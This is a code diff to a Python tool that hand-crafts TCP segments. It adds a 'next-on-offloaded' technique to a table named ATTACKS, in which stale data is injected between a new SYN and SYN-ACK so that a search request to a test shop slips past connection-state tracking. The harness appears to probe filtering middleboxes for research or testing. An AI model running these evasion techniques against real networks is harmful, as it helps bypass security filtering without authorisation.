@@ -51,6 +51,9 @@ class Peer:
             return
         if s.flags & wire.RST:
             self.end = "reset"
+        elif s.flags & wire.FIN and s.seq + len(s.data) == self.ack:
+            self.ack = (self.ack + 1) & wire.MASK
+            self.send("A")
         elif s.flags & wire.SYN:
             self.ack = (s.seq + 1) & wire.MASK
         elif s.data and s.seq == self.ack:
@@ -75,9 +78,10 @@ class Peer:
         self.send("A")
         return self.ack
 
-    def ask(self, word, tries=3, **more):
+    def ask(self, word, tries=3, connection="keep-alive", **more):
         """A request on the open connection; what came back."""
-        data = b"GET /find?q=%s HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: curl\r\nAccept: */*\r\n\r\n" % word.encode()
+        data = (b"GET /find?q=%s HTTP/1.1\r\nHost: shop.test\r\nConnection: %s\r\nUser-Agent: curl\r\nAccept: */*\r\n\r\n"
+                % (word.encode(), connection.encode()))
         self.received = b""
         seq, self.seq = self.seq, (self.seq + len(data)) & wire.MASK
         for _ in range(tries):
@@ -139,6 +143,25 @@ def syn_amid(peer, word):
     return f"{first} {peer.ask('harmless')} {peer.ask(word)}"
 
 
+def next_on_offloaded(peer, word):
+    """The server closes an offloaded connection, we do not, and it forgets; between the next one's SYN and SYN-ACK
+    come bytes of the old one."""
+    if not peer.open():
+        return "closed"
+    first = peer.ask("tunnel")
+    second = peer.ask("harmless", connection="close")
+    peer.wait(lambda: False, 4)
+    old = peer.seq
+    peer.seq, peer.ack, peer.end = (peer.seq + 5000000) & wire.MASK, 0, ""
+    peer.send("S", ack=0, options=b"\x02\x04\x05\xb4")
+    peer.send("PA", b"old bytes", seq=old, ack=1)
+    if not peer.wait(lambda: peer.ack, 1):
+        return f"{first} {second} {peer.end or 'closed'}"
+    peer.seq = (peer.seq + 1) & wire.MASK
+    peer.send("A")
+    return f"{first} {second} {peer.ask(word)}"
+
+
 ATTACKS = {
     "plain": asked,
     "ack-first": forged_first("A"),
@@ -147,6 +170,7 @@ ATTACKS = {
     "syn-ack-first": forged_first("SA"),
     "related": related,
     "syn-amid": syn_amid,
+    "next-on-offloaded": next_on_offloaded,
     "extensions": lambda peer, word: asked(peer, word, extensions=10),
 }
 
